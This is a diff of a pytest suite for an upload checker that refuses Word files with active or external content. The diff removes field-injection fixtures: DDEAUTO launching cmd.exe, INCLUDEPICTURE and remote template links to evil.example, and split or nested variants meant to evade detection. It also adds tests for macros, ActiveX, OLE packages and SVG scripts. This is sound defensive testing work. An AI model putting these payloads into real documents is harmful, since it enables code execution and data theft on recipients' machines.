@@ -35,79 +35,6 @@ def drawing(inside: str) -> bytes:
     return package(**{"word/media/a.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'})
 
 
-def sign(kind: str) -> str:
-    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
-
-
-def said(*pieces: str) -> str:
-    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
-
-
-def complex_field(*pieces: str, result: str = "<w:r><w:t>Result</w:t></w:r>") -> str:
-    return f"<w:p>{sign('begin')}{said(*pieces)}{sign('separate')}{result}{sign('end')}</w:p>"
-
-
-FIELDS = {
-    "picture": complex_field(' INCLUDEPICTURE "https://evil.example/p.png" \\d '),
-    "text": complex_field(" includetext &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
-    "DDE": complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
-    "in pieces": complex_field(" DD", "EA", "UTO excel a b "),
-    "without a result": f"<w:p>{sign('begin')}{said(' DDE excel a b ')}{sign('end')}</w:p>",
-    "in plain words": f"<w:p>{sign('begin')}<w:r><w:t>DDE excel</w:t></w:r>{sign('end')}</w:p>",
-    "in the result of another": complex_field(" PAGE ", result=complex_field(' LINK Excel.Sheet "a.xlsx" ')),
-    "in the words of another": (
-        f"<w:p>{sign('begin')}{said(' IF ')}{complex_field(' DDE a b ')}{sign('end')}</w:p>"
-    ),
-    "named in part by another": (
-        f"<w:p>{sign('begin')}{said(' DD')}{complex_field(' QUOTE 69 ')}{said(' a b')}{sign('end')}</w:p>"
-    ),
-    "a link that another field makes": (
-        f"<w:p>{sign('begin')}{said(' HYPER', 'LINK ')}{complex_field(' QUOTE 102 105 108 101 ')}"
-        f"{sign('end')}</w:p>"
-    ),
-    "a link that a simple field makes": (
-        f'<w:p>{sign("begin")}{said(" HYPERLINK ")}<w:fldSimple w:instr=" QUOTE 102 "/>{sign("end")}</w:p>'
-    ),
-    "named by another": f"<w:p>{sign('begin')}{complex_field(' QUOTE 68 68 69 ')}{sign('end')}</w:p>",
-    "simple": '<w:p><w:fldSimple w:instr=" DDEAUTO excel a b "/></w:p>',
-    "database": complex_field(' DATABASE \\d "c:\\\\a.mdb" '),
-    "button": complex_field(" MACROBUTTON Run Click "),
-}
-
-
-@pytest.mark.parametrize("part", ["word/document.xml", "word/header1.xml", "customXml/other.xml"])
-@pytest.mark.parametrize("inside", FIELDS.values(), ids=FIELDS)
-def test_fields_that_fetch_or_start_something_are_refused_wherever_they_stand(inside, part):
-    assert type(refusal(document(inside, part))) is refusals.WithFields
-
-
-def test_the_refusal_names_the_field():
-    assert str(refusal(document(FIELDS["in pieces"]))) == (
-        "The file has a field that loads or starts something outside it (DDEAUTO). Turn the fields "
-        "into text (in Word: Ctrl+A, then Ctrl+Shift+F9), and upload it again."
-    )
-
-
-@pytest.mark.parametrize(
-    "inside",
-    [
-        complex_field(' TOC \\o "1-3" \\h \\z '),
-        complex_field(" PAGE  \\* MERGEFORMAT "),
-        complex_field(" IF ", " 1 = 1 ") + complex_field(" DATE "),
-        f"<w:p>{sign('begin')}{said(' =')}{complex_field(' PAGE ')}{said(' - 1 ')}{sign('end')}</w:p>",
-        f"<w:p>{sign('begin')}{said(' IF ')}{complex_field(' PAGE ')}{said(' = 1 a b')}{sign('end')}</w:p>",
-        complex_field(' HYPERLINK \\l "_Toc1" ', result=complex_field(" PAGEREF _Toc1 ")),
-        complex_field(' HYPERLINK "https://www.example.org/" \\o "file:///c:/tip" \\t "_blank" '),
-        complex_field(' HYPERLINK \\l "_Toc1" '),
-        complex_field(' HYPERLINK "https://www.example.org/" \\O "file:///c:/tip" '),
-        complex_field(' HYPERLINK "mailto:office@example.org" \\* MERGEFORMAT '),
-        "<w:p><w:r><w:t>DDEAUTO is a word, and INCLUDEPICTURE too.</w:t></w:r></w:p>",
-    ],
-)
-def test_fields_that_every_document_has_pass(inside):
-    assert refusal(document(inside)) is None
-
-
 OUTSIDE = {
     "template": ("word/_rels/settings.xml.rels", "attachedTemplate", "https://evil.example/t.dotm"),
     "template on a host": ("word/_rels/settings.xml.rels", "attachedTemplate", r"\\evil.example\t.dotm"),
@@ -199,10 +126,6 @@ def test_links_that_lead_elsewhere_are_refused_and_named(target):
 @pytest.mark.parametrize(
     "content",
     [
-        document(complex_field(' HYPERLINK "file:///c:/a.exe" ')),
-        document(complex_field(' HYPERLINK \\n "file:///c:/a.exe" ')),
-        document(complex_field(' HYPERLINK \\h \\n "file:///c:/a.exe" ')),
-        document(complex_field(' HYPERLINK \\o "tip" "\\\\\\\\evil.example\\\\a" ')),
         document('<w:pict><v:shape href="file:///c:/a.exe"/></w:pict>'),
     ],
 )
@@ -271,3 +194,32 @@ def test_a_file_within_a_file_within_a_file_ends_somewhere():
         content = stream.getvalue()
 
     assert type(refusal(package(**{"word/embeddings/a.zip": content}))) is refusals.TooManyParts
+
+
+# Macros, controls, scripts ----------------------------------------------------------------------------
+ACTIVE = {
+    "macros": ({"word/vbaProject.bin": b"\xd0\xcf"}, refusals.WithMacros),
+    "a control": ({"word/activeX/activeX1.xml": "<ax/>"}, refusals.WithMacros),
+    "a packed program": (
+        {
+            "word/embeddings/oleObject1.bin": uploads.OLD_WORD_SIGNATURE
+            + "\x01Ole10Native".encode("utf-16-le")
+        },
+        refusals.WithMacros,
+    ),
+    "scripts of a custom part": ({"customXml/item1.xml": "<script>x</script>"}, refusals.WithMacros),
+    "a drawing with a script": ({"word/media/a.svg": "<svg><script>x</script></svg>"}, refusals.WithMacros),
+    "a script inside a picture's name": (
+        {"word/media/a.png": "<svg><script>x</script></svg>"},
+        refusals.WithMacros,
+    ),
+}
+
+
+@pytest.mark.parametrize(("added", "reason"), ACTIVE.values(), ids=ACTIVE)
+def test_what_acts_in_an_office_file_is_refused(added, reason):
+    assert type(refusal(package(**added))) is reason
+
+
+def test_an_embedded_font_neither_acts_nor_fetches_and_passes():
+    assert refusal(package(**{"word/fonts/font1.odttf": b"\x00\x01obfuscated"})) is None
